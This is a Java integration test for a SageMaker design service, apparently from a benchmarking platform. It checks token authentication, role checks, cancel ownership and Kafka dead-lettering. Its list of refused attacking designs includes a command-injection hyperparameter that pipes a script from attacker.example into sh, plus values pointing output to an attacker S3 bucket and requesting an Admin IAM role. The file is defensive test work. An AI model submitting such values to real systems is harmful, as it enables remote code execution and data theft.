package io.sagebench.design.it;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.specification.RequestSpecification;
import io.sagebench.testkit.EventContract;
import io.sagebench.testkit.TestTokens;
import io.sagebench.testkit.TestTopics;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;
import java.util.function.Function;

import static io.restassured.RestAssured.given;
import static io.sagebench.design.it.Callers.alice;
import static io.sagebench.design.it.Callers.as;
import static io.sagebench.design.it.Callers.produceSigned;
import static io.sagebench.design.it.Callers.signed;
import static io.sagebench.design.it.DesignServiceIT.MAPPER;
import static io.sagebench.design.it.DesignServiceIT.WAIT;
import static io.sagebench.design.it.DesignServiceIT.assertExactly;
import static io.sagebench.design.it.DesignServiceIT.records;
import static io.sagebench.design.it.DesignServiceIT.small;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * docs/security.md for design-service, with real signed tokens (TestTokens) on the real broker and MariaDB: 401 and
 * 403 on every mutating endpoint, the submitter bound to the token, cancel only by the owner or an operator, every
 * design rule with an attacking design over REST (400 naming the rule) and over Kafka (DesignRejected + dead letter),
 * and designs on bench.designs only with a designer's token.
 */
@QuarkusTest
class SecurityIT {

    static final String BUCKET = "sagemaker-us-east-1-000000000000";

    /** The mutating endpoints, each as a request on a given caller. */
    static final Map<String, Function<RequestSpecification, io.restassured.response.Response>> MUTATIONS = Map.of(
            "POST /designs", r -> r.contentType(ContentType.JSON).body(small("sec-never").toString()).post("/designs"),
            "POST /designs/preview", r -> r.contentType(ContentType.JSON).body(small("sec-never").toString())
                    .post("/designs/preview"),
            "POST /designs/import", r -> r.contentType("text/csv").body("what,ever\n1,2\n").post("/designs/import"),
            "POST /designs/{id}/cancel", r -> r.post("/designs/sec-owned/cancel"));

    static void assertNoLeak(String body) {
        assertFalse(body.contains("Exception") || body.contains("\tat ") || body.contains("eyJ"), body);
    }

    @Test
    void everyMutationNeedsAValidTokenWithTheRole() {
        alice().contentType(ContentType.JSON).body(small("sec-owned").toString()).post("/designs").then().statusCode(201);
        Map<String, RequestSpecification> unauthenticated = Map.of(
                "no token", given(),
                "expired", as(TestTokens.expired("alice", "designer")),
                "foreign key", as(TestTokens.foreign("alice", "designer")),
                "wrong issuer", as(TestTokens.wrongIssuer("alice", "designer")),
                "not a JWT", given().header("Authorization", "Bearer not-a-token"));
        MUTATIONS.forEach((endpoint, call) -> {
            unauthenticated.forEach((why, caller) -> {
                var response = call.apply(caller);
                assertEquals(401, response.statusCode(), endpoint + " with " + why);
                assertNoLeak(response.asString());
            });
            var viewer = call.apply(as(TestTokens.viewer("victor")));
            assertEquals(403, viewer.statusCode(), endpoint + " as a viewer");
            assertNoLeak(viewer.asString());
        });
        // nothing of it happened
        JsonNode owned = MAPPER.valueToTree(alice().get("/designs/sec-owned").then().statusCode(200).extract().as(Map.class));
        assertEquals("ACCEPTED", owned.get("status").asText());
        alice().get("/designs/sec-never").then().statusCode(404);
    }

    @Test
    void readsNeedAToken() {
        given().get("/designs").then().statusCode(401);
        given().get("/designs/anything").then().statusCode(401);
        as(TestTokens.expired("victor", "viewer")).get("/designs").then().statusCode(401);
        as(TestTokens.token("nobody")).get("/designs").then().statusCode(403);
        as(TestTokens.viewer("victor")).get("/designs").then().statusCode(200);
        as(TestTokens.operator("olga")).get("/designs").then().statusCode(200);
        // probes and Prometheus stay open
        given().get("/q/health/live").then().statusCode(200);
        given().get("/q/metrics").then().statusCode(200);
    }

    @Test
    void theSubmitterIsTheTokensName() throws Exception {
        alice().contentType(ContentType.JSON).body(small("sec-submitter").toString()).post("/designs")
                .then().statusCode(201);
        JsonNode stored = MAPPER.readTree(alice().get("/designs/sec-submitter").asString());
        assertEquals("alice", stored.get("design").get("submittedBy").asText());
        ConsumerRecord<String, String> accepted = records("bench.design-status", 1, "sec-submitter", "DesignAccepted").get(0);
        EventContract.assertValid("DesignAccepted", accepted.value());
        assertEquals("alice", MAPPER.readTree(accepted.value()).get("submittedBy").asText());
        List<ConsumerRecord<String, String>> planned = records("bench.runs", 2, "sec-submitter-", "RunPlanned");
        assertEquals(2, planned.size());
        for (ConsumerRecord<String, String> r : planned) {
            EventContract.assertValid("RunPlanned", r.value());
            assertEquals("alice", MAPPER.readTree(r.value()).get("submittedBy").asText());
        }

        // a body that claims someone else is refused, and naming oneself is fine
        JsonNode mismatch = MAPPER.readTree(alice().contentType(ContentType.JSON)
                .body(small("sec-mismatch").put("submittedBy", "bob").toString()).post("/designs")
                .then().statusCode(400).extract().asString());
        assertEquals("submitter-mismatch", mismatch.get("errors").get(0).get("rule").asText());
        assertEquals("$.submittedBy", mismatch.get("errors").get(0).get("path").asText());
        alice().contentType(ContentType.JSON).body(small("sec-self").put("submittedBy", "alice").toString())
                .post("/designs").then().statusCode(201);
    }

    @Test
    void aDesignerCancelsOnlyTheirOwnDesignsAnOperatorAny() throws Exception {
        alice().contentType(ContentType.JSON).body(small("sec-cancel-a").toString()).post("/designs").then().statusCode(201);
        alice().contentType(ContentType.JSON).body(small("sec-cancel-b").toString()).post("/designs").then().statusCode(201);

        String forbidden = as(TestTokens.designer("bob")).post("/designs/sec-cancel-a/cancel").then().statusCode(403)
                .extract().asString();
        assertTrue(forbidden.contains("cancel-not-allowed"), forbidden);
        assertNoLeak(forbidden);
        assertEquals("ACCEPTED", MAPPER.readTree(alice().get("/designs/sec-cancel-a").asString()).get("status").asText());
        alice().post("/designs/sec-cancel-a/cancel").then().statusCode(202);
        as(TestTokens.operator("olga")).post("/designs/sec-cancel-b/cancel").then().statusCode(202);
        assertExactly(1, "bench.design-status", "sec-cancel-a", "DesignCancelled");
        assertExactly(1, "bench.design-status", "sec-cancel-b", "DesignCancelled");

        // the same rule on Kafka: bob's DesignCancelRequested for alice's design is dead-lettered, the design stays
        alice().contentType(ContentType.JSON).body(small("sec-cancel-k").toString()).post("/designs").then().statusCode(201);
        TestTopics.produce("bench.designs", "sec-cancel-k", "{\"designId\":\"sec-cancel-k\"}",
                signed(Map.of("event-type", "DesignCancelRequested"), TestTokens.designer("bob")));
        TestTopics.produce("bench.designs", "sec-cancel-k", "{\"designId\":\"sec-cancel-k\"}",
                Map.of("event-type", "DesignCancelRequested"));
        List<ConsumerRecord<String, String>> dead = TestTopics.consume("bench.dlq.design-service", 2, WAIT,
                r -> "sec-cancel-k".equals(r.key()));
        assertEquals(2, dead.size());
        Set<String> reasons = new HashSet<>();
        dead.forEach(r -> reasons.add(TestTopics.header(r, "dead-letter-reason").split(":")[0]));
        assertEquals(Set.of("cancel-not-allowed", "unauthenticated-submission"), reasons);
        dead.forEach(r -> assertNull(TestTopics.header(r, "authorization"), "a dead letter keeps no token"));
        assertEquals("ACCEPTED", MAPPER.readTree(alice().get("/designs/sec-cancel-k").asString()).get("status").asText());
        // and the owner's own cancel on Kafka works
        produceSigned("sec-cancel-k", "DesignCancelRequested", "{\"designId\":\"sec-cancel-k\"}");
        assertEquals(1, records("bench.design-status", 1, "sec-cancel-k", "DesignCancelled").size());
    }

    /** Each attack: what it does to the design, the rule and the path its rejection must name. */
    record Attack(String rule, String path, Consumer<ObjectNode> mutation) {
    }

    static final List<Attack> ATTACKS = List.of(
            new Attack("reserved-hyperparameter", "$.hyperparameters.sagemaker_program",
                    d -> hp(d).put("sagemaker_program", "evil.py")),
            new Attack("reserved-hyperparameter", "$.hyperparameters.SAGEMAKER_SUBMIT_DIRECTORY",
                    d -> hp(d).put("SAGEMAKER_SUBMIT_DIRECTORY", "s3://" + BUCKET + "/evil/sourcedir.tar.gz")),
            new Attack("reserved-hyperparameter", "$.hyperparameters.learning_rate",
                    d -> hp(d).put("learning_rate", "10")),
            new Attack("hyperparameter-bounds", "$.hyperparameters.cmd",
                    d -> hp(d).put("cmd", "x\n; curl attacker.example | sh")),
            new Attack("hyperparameter-bounds", "$.hyperparameters.big", d -> hp(d).put("big", "x".repeat(5000))),
            new Attack("image-not-allowed", "$.trainingImage",
                    d -> d.put("trainingImage", "123456789012.dkr.ecr.us-east-1.amazonaws.com/evil:latest")),
            new Attack("image-not-allowed", "$.imageUri", d -> d.put("imageUri", "docker.io/evil")),
            new Attack("role-not-allowed", "$.roleArn", d -> d.put("roleArn", "arn:aws:iam::123456789012:role/Admin")),
            new Attack("role-not-allowed", "$.hyperparameters.assume",
                    d -> hp(d).put("assume", "arn:aws:iam::123456789012:role/Admin")),
            new Attack("s3-outside-buckets", "$.hyperparameters.output_path",
                    d -> hp(d).put("output_path", "s3://attacker-bucket/loot")),
            new Attack("s3-outside-buckets", "$.dataset.hubId",
                    d -> ((ObjectNode) d.get("dataset")).put("hubId", "s3://other-bucket/data")));

    static ObjectNode hp(ObjectNode d) {
        return (ObjectNode) d.get("hyperparameters");
    }

    static boolean names(JsonNode errors, String rule, String path) {
        for (JsonNode e : errors) {
            if (rule.equals(e.path("rule").asText()) && path.equals(e.path("path").asText())) {
                return true;
            }
        }
        return false;
    }

    @Test
    void everyAttackingDesignIsRefusedOverRestNamingItsRule() throws Exception {
        for (Attack attack : ATTACKS) {
            ObjectNode d = small("sec-attack");
            attack.mutation().accept(d);
            String body = alice().contentType(ContentType.JSON).body(d.toString()).post("/designs")
                    .then().statusCode(400).extract().asString();
            assertTrue(names(MAPPER.readTree(body).get("errors"), attack.rule(), attack.path()),
                    () -> attack.rule() + " at " + attack.path() + " not in " + body);
            assertNoLeak(body);
            // preview applies the same rules
            alice().contentType(ContentType.JSON).body(d.toString()).post("/designs/preview").then().statusCode(400);
        }
        // all at once: every problem listed, the rules first, the ordinary validation too
        ObjectNode all = small("sec-attack");
        ATTACKS.forEach(a -> a.mutation().accept(all));
        all.putArray("learningRates");
        JsonNode errors = MAPPER.readTree(alice().contentType(ContentType.JSON).body(all.toString()).post("/designs")
                .then().statusCode(400).extract().asString()).get("errors");
        for (Attack a : ATTACKS) {
            assertTrue(names(errors, a.rule(), a.path()), a.rule() + " " + a.path() + " in " + errors);
        }
        assertTrue(names(errors, "validation", "$.learningRates"), errors.toString());
        alice().get("/designs/sec-attack").then().statusCode(404);
    }

    @Test
    void aBodyOverTheLimitIs413WithAJsonError() throws Exception {
        ObjectNode d = small("sec-huge");
        d.put("name", "x".repeat(1_100_000));
        var response = alice().contentType(ContentType.JSON).body(d.toString()).post("/designs");
        assertEquals(413, response.statusCode());
        JsonNode error = MAPPER.readTree(response.asString()).get("errors").get(0);
        assertEquals("payload-too-large", error.get("rule").asText());
        assertTrue(error.get("message").asText().contains("1048576"), error.toString());
        alice().get("/designs/sec-huge").then().statusCode(404);
    }

    /** The Kafka rejection of a record: DesignRejected naming the rule and a dead letter; nothing stored. */
    static void assertRejectedOnKafka(String key, String rule) throws Exception {
        ConsumerRecord<String, String> rejected = records("bench.design-status", 1, key, "DesignRejected").get(0);
        EventContract.assertValid("DesignRejected", rejected.value());
        JsonNode errors = MAPPER.readTree(rejected.value()).get("errors");
        assertEquals(rule, errors.get(0).get("rule").asText(), errors.toString());
        ConsumerRecord<String, String> dead = TestTopics.consume("bench.dlq.design-service", 1, WAIT,
                r -> key.equals(r.key())).get(0);
        assertTrue(TestTopics.header(dead, "dead-letter-reason").contains(rule)
                || TestTopics.header(dead, "dead-letter-reason").contains(errors.get(0).get("message").asText()),
                TestTopics.header(dead, "dead-letter-reason"));
        assertNull(TestTopics.header(dead, "authorization"), "a dead letter keeps no token");
        assertFalse(TestTopics.header(dead, "dead-letter-reason").contains("eyJ"));
        alice().get("/designs/" + key).then().statusCode(404);
    }

    @Test
    void designsOnKafkaNeedADesignersTokenAndObeyTheRules() throws Exception {
        String design = small("sec-k-none").toString();
        TestTopics.produce("bench.designs", "sec-k-none", design, Map.of("event-type", "DesignSubmitted"));
        TestTopics.produce("bench.designs", "sec-k-expired", small("sec-k-expired").toString(),
                signed(null, TestTokens.expired("alice", "designer")));
        TestTopics.produce("bench.designs", "sec-k-foreign", small("sec-k-foreign").toString(),
                signed(null, TestTokens.foreign("alice", "designer")));
        TestTopics.produce("bench.designs", "sec-k-issuer", small("sec-k-issuer").toString(),
                signed(null, TestTokens.wrongIssuer("alice", "designer")));
        TestTopics.produce("bench.designs", "sec-k-viewer", small("sec-k-viewer").toString(),
                signed(null, TestTokens.viewer("victor")));
        TestTopics.produce("bench.designs", "sec-k-bob", small("sec-k-bob").put("submittedBy", "bob").toString(),
                signed(null));
        ObjectNode attack = small("sec-k-attack");
        hp(attack).put("sagemaker_submit_directory", "s3://attacker-bucket/code.tar.gz");
        TestTopics.produce("bench.designs", "sec-k-attack", attack.toString(), signed(null));
        // an oversized value (over the test limit of 256 kB) is refused unread
        ObjectNode huge = small("sec-k-huge");
        huge.put("name", "x".repeat(300_000));
        TestTopics.produce("bench.designs", "sec-k-huge", huge.toString(), signed(null));
        TestTopics.produce("bench.designs", "sec-k-good", small("sec-k-good").toString(), signed(null));

        assertRejectedOnKafka("sec-k-none", "unauthenticated-submission");
        assertRejectedOnKafka("sec-k-expired", "unauthenticated-submission");
        assertRejectedOnKafka("sec-k-foreign", "unauthenticated-submission");
        assertRejectedOnKafka("sec-k-issuer", "unauthenticated-submission");
        assertRejectedOnKafka("sec-k-viewer", "unauthenticated-submission");
        assertRejectedOnKafka("sec-k-bob", "submitter-mismatch");
        assertRejectedOnKafka("sec-k-attack", "reserved-hyperparameter");
        assertRejectedOnKafka("sec-k-huge", "payload-too-large");
        // the dead letter of the oversized record keeps it whole, for an operator to look at
        assertEquals(huge.toString().length(), TestTopics.consume("bench.dlq.design-service", 1, WAIT,
                r -> "sec-k-huge".equals(r.key())).get(0).value().length());

        // the next good record is processed, and signed by alice it is hers
        assertEquals(2, records("bench.runs", 2, "sec-k-good-", "RunPlanned").size());
        await().atMost(WAIT).until(() -> alice().get("/designs/sec-k-good").statusCode() == 200);
        assertEquals("alice", MAPPER.readTree(alice().get("/designs/sec-k-good").asString())
                .get("design").get("submittedBy").asText());
        assertEquals(0, TestTopics.consume("bench.runs", 1, Duration.ofSeconds(2),
                r -> r.key() != null && r.key().startsWith("sec-k-none-")).size());
    }
}
